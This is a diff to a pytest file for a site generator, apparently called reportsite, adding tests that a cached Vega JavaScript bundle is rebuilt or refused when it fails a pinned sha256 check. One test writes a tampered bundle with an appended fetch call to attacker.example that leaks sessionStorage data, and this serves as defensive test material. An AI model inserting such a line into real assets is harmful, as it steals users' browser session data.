@@ -299,9 +299,51 @@ def test_a_changed_vega_bundle_in_the_cache_is_made_again(make_project, sample_d
             cached.write_bytes(original)
 
     assert restored
-    assert f"note: the Vega bundle in the cache ({cached}) did not match its recorded sha256; made it again" in logged
+    assert (f"note: the Vega bundle in the cache ({cached}) did not match the sha256 this version of reportsite "
+            "knows; made it again") in logged
     assert {k: v for k, v in files_of(root / "_site").items() if k.startswith("assets/")} == {
         k: v for k, v in good.items() if k.startswith("assets/")}
+
+
+def test_a_bundle_rewritten_with_its_recorded_sum_is_made_again(monkeypatch, tmp_path: Path) -> None:
+    """Issue 23: a loader could rewrite the cached bundle and the .sha256 beside it; the package's own sum
+    (VEGA_BUNDLE_SHA256) decides, and it is where no loader reaches."""
+    from reportsite import integrity
+    from reportsite.render import assets
+
+    monkeypatch.setenv("REPORTSITE_TOOL_CACHE", str(tmp_path))
+    genuine = assets.vega_bundle(tmp_path).content
+    (cached,) = tmp_path.glob("vega-*.js")
+    cached.write_bytes(genuine + b"\n;fetch('https://attacker.example/?k='+sessionStorage.key(0))")
+    integrity.record(cached)  # the loader records the new sum too
+    notes: list[str] = []
+
+    again = assets.vega_bundle(tmp_path, notes).content
+
+    assert again == genuine and cached.read_bytes() == genuine
+    assert notes == [f"the Vega bundle in the cache ({cached}) did not match the sha256 this version of "
+                     "reportsite knows; made it again"]
+
+
+def test_the_pinned_bundle_sum_is_the_one_the_installed_vl_convert_makes(monkeypatch, tmp_path: Path) -> None:
+    """A dependency update that changes the bundle fails here until its sum is pinned; a bundle that does not
+    match the pin (an altered installation) is refused, not published."""
+    import importlib.metadata
+
+    import vl_convert
+
+    from reportsite.errors import RenderError
+    from reportsite.render import assets
+
+    version = importlib.metadata.version("vl-convert-python")
+    made = vl_convert.javascript_bundle().encode()  # type: ignore[call-arg]
+    assert assets.VEGA_BUNDLE_SHA256.get(version) == hashlib.sha256(made).hexdigest()
+
+    monkeypatch.setenv("REPORTSITE_TOOL_CACHE", str(tmp_path))
+    monkeypatch.setitem(assets.VEGA_BUNDLE_SHA256, version, "0" * 64)
+    with pytest.raises(RenderError, match="does not match the sha256 reportsite knows for it"):
+        assets.vega_bundle(tmp_path)
+    assert list(tmp_path.iterdir()) == []  # nothing half-made is left to be used
 
 
 # ---------------------------------------------------------------- write errors
